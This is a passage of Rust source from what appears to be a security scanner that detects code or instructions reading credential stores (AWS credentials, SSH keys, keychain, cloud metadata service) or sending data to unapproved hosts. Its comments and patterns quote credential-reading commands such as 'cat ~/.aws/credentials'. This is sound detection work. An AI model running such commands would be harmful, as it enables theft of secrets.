    // The file a command writes (`cp admin.conf ~/.kube/config`, `echo … > ~/.npmrc`) is set
    // up, not read out: the path is the last operand of a copy or the target of a redirection.
    let rest = unit.text[m.end()..]
        .trim_start_matches(['"', '\''])
        .trim_start();
    let last = rest.is_empty() || rest.starts_with([';', '&', '|', ')', '\n', '#']);
    if last && WRITES.is_match(command.trim_start()) {
        return None;
    }
    // "Never `cat ~/.aws/credentials`": the command it shows is forbidden.
    if unit.context == Context::Prose && super::prohibited(&unit.text, m.start()) {
        return None;
    }
    // A path alone is a mention; reading needs a verb, in code or in an instruction (in
    // prose, an imperative: "read ~/.ssh/id_rsa", not "a skill that reads ~/.ssh"). A path
    // that only appears decoded or joined from pieces was hidden on purpose.
    let hidden = unit.origin != crate::security::Origin::Plain && {
        // Not when the line as written names the path too (`check "$home/.ssh" 700`, rebuilt
        // only because its quotes and variable were taken away).
        !scan
            .written_line(unit)
            .contains(text.trim_start_matches(['~', '/']))
    };
    let in_code_span = unit.text[..m.start()].matches('`').count() % 2 == 1;
    let reads = if hidden {
        true
    } else if unit.context == Context::Prose
        && !in_code_span
        && !unit.text[..m.start()].ends_with(['`', '~'])
    {
        let mut from = m.start().saturating_sub(120);
        while !unit.text.is_char_boundary(from) {
            from -= 1;
        }
        ORDER.is_match(&unit.text[from..m.start()])
    } else if unit.context == Context::Prose && in_code_span {
        // In prose, the command is the code span the path is in, with its sentence (a table
        // row's other cells and a list's other items are other commands).
        let start = unit.text[..m.start()].rfind('`').map_or(0, |i| i + 1);
        let end = unit.text[m.end()..]
            .find('`')
            .map_or(unit.text.len(), |i| m.end() + i);
        // "Don't forget to copy `~/.aws/credentials`": the verb may come before the span, in
        // its sentence or cell.
        let clause = unit.text[..start]
            .rfind(['.', '!', '?', ';', '|', '\n'])
            .map_or(0, |i| i + 1);
        READS.is_match(&unit.text[clause..end])
    } else {
        READS.is_match(&unit.text) || read_by_name(scan, unit)
    };
    // The cloud metadata service is read when it is requested: an address of it (`http://`
    // before, a path or port after), not its name in a blocklist (`['localhost',
    // 'metadata.google.internal']`, an SSRF guard).
    let direct = (text.contains("169.254.169.254") || text.contains("metadata.google"))
        && !unrequested_metadata(unit, &m)
        || text.contains("dump-keychain")
        || text.contains("-password")
        || text.to_ascii_lowercase().ends_with("safe storage");
    (reads || direct).then(|| text.to_string())
}

/// Whether a script line that sets a name to a store's path (`aws = HOME / ".aws" /
/// "credentials"`) is followed, in its file, by a read of that name: `cp.read(aws)`,
/// `open(aws)`, `aws.read_text()`.
fn read_by_name(scan: &Scan, unit: &Unit) -> bool {
    if !unit.is_code() {
        return false;
    }
    let Some(name) = assigned_name(&unit.text) else {
        return false;
    };
    let text = &scan.source(unit).text;
    let calls = [
        ".read(",
        "open(",
        "load(",
        "read_text(",
        "read_bytes(",
        "copy(",
        "copyfile(",
    ];
    text.match_indices(name).take(64).any(|(at, _)| {
        let before = text[..at].trim_end();
        let after = &text[at + name.len()..];
        let whole = !text[..at].ends_with(|c: char| c.is_alphanumeric() || c == '_' || c == '.')
            && !after.starts_with(|c: char| c.is_alphanumeric() || c == '_');
        whole
            && (calls.iter().any(|c| before.ends_with(c))
                || [".read_text(", ".read_bytes(", ".open("]
                    .iter()
                    .any(|c| after.starts_with(c)))
    })
}

/// Whether the store at `start..end` of a code unit is a shell `case` pattern the path is
/// compared with (`case "$rel" in .ssh/*|.gnupg/*) continue ;;`), not a file that is read: its
/// word ends the pattern with `)` and opens no parenthesis, and starts the line or follows `in`.
/// `$(cat ~/.ssh/id_rsa)` is a read: its word follows `cat`.
fn case_pattern(unit: &Unit, start: usize, end: usize) -> bool {
    if !unit.is_code() {
        return false;
    }
    let text = &unit.text;
    let line_start = text[..start].rfind('\n').map_or(0, |i| i + 1);
    let word_start = text[..start]
        .char_indices()
        .rev()
        .find(|(_, c)| c.is_whitespace())
        .map_or(0, |(i, c)| i + c.len_utf8())
        .max(line_start);
    let word_end = text[end..]
        .find(char::is_whitespace)
        .map_or(text.len(), |i| end + i);
    let word = &text[word_start..word_end];
    let previous = text[line_start..word_start].split_whitespace().next_back();
    word.ends_with(')') && !word.contains('(') && previous.is_none_or(|w| w == "in")
}

/// Where a unit sends to, when it names a host that is not allowed, local or a placeholder.
fn destination(unit: &Unit, allowed: &[String]) -> Option<String> {
    urls(&unit.text)
        .find(|u| !host_allowed(u, allowed) && !u.is_local() && !u.is_placeholder())
        .map(|u| u.text.to_string())
}

/// Whether `text` names `name` as a word (or `$name`, or the file path).
fn mentions(text: &str, name: &str) -> bool {
    if name.len() < 2 {
        return false;
    }
    if name.contains('/') || name.contains('.') {
        return text.contains(name);
    }
    text.match_indices(name).any(|(at, _)| {
        let before = text[..at].chars().next_back();
        let after = text[at + name.len()..].chars().next();
        !before.is_some_and(|c| c.is_alphanumeric() || c == '_')
            && !after.is_some_and(|c| c.is_alphanumeric() || c == '_')
    })
}
